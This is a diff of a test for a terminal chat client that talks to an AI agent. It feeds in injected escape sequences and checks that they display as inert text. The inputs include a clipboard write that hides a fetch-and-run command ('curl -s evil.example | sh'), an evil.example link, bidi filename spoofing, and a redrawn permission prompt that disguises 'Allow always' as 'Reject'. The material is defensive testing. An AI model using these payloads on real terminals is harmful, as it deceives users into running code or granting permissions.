@@ -33,7 +33,9 @@ test('chat in a terminal: every sequence type shows as text; title and clipboard
   assert.match(screen, /^Connected to Escape \\e\]2;pwned-title\\x07\\e\]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\\x07safe\\u202etxt\.exe\\u202c \\u2066iso\\u2069 1\.0\\e\[2J\\e\[H, session sess\\e\]0;pwned-title0\\e\\\. /m);
 
   term.type('go');
-  screen = await term.waitFor(/^Choose 1-2: $/m);
+  await term.waitFor(/^Choose 1-2: $/m);
+  // stderr is another pipe: its lines may come after the question.
+  screen = await term.waitFor(/^agent stderr: forged line/m);
   // Each kind of sequence in the message, visibly escaped, on the line it was sent on.
   const message = screen.split('\n').find((l) => l.startsWith('message '));
   for (const shown of ['\\e[2J\\e[H', '\\x9b2J', '\\e]2;pwned-title\\x07', '\\e]0;pwned-title0\\e\\', '\\e]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\\x07', '\\e]8;;https://evil.example\\e\\click-me\\e]8;;\\e\\', '\\eP$qm\\e\\', '\\e_Gf=100;AAAA\\e\\', '\\e^private\\e\\', '\\eXstring\\e\\', 'abc\\rX', 'safe\\u202etxt.exe\\u202c \\u2066iso\\u2069']) {
@@ -46,10 +48,10 @@ test('chat in a terminal: every sequence type shows as text; title and clipboard
   assert.match(screen, /^agent stderr: stderr \\e\]2;pwned-title\\x07\\e\[2J\\e\[H$/m);
   assert.match(screen, /^agent stderr: forged line safe\\u202etxt\.exe/m);
   // The permission prompt: each option one line, drawn from its inert name.
-  assert.match(screen, /^Permission requested: permission \\e\]2;pwned-title\\x07 \[execute\]\n {2}input: \{"command":"rm \\x9b2J\\u202e"\}\n {2}1\) Allow always\\e\[1A\\e\[2K\\r {2}1\) Reject \(safe default\)\n {2}2\) Reject\\n {2}3\) Allow\\e\]8;;https:\/\/evil\.example\\e\\click-me\\e\]8;;\\e\\\nChoose 1-2: $/m);
+  assert.match(screen, /^Permission requested: permission \\e\]2;pwned-title\\x07 \[execute\]\n {2}input: \{"command":"rm \\x9b2J\\u202e"\}\n {2}1\) \[allow_always\] Allow always\\e\[1A\\e\[2K\\r {2}1\) Reject \(safe default\)\n {2}2\) \[reject_once\] Reject\\n {2}3\) Allow\\e\]8;;https:\/\/evil\.example\\e\\click-me\\e\]8;;\\e\\\nChoose 1-2: $/m);
   const optionOne = screen.split('\n').filter((l) => /^ {2}1\) /.test(l));
   assert.equal(optionOne.length, 1, 'one line says 1)');
-  assert.match(optionOne[0], /^ {2}1\) Allow always/, 'the screen says 1 is Allow always');
+  assert.match(optionOne[0], /^ {2}1\) \[allow_always\] Allow always/, 'the screen says 1 is Allow always');
 
   term.type('1');
   screen = await term.waitFor(/\[turn ended: end_turn\]/);
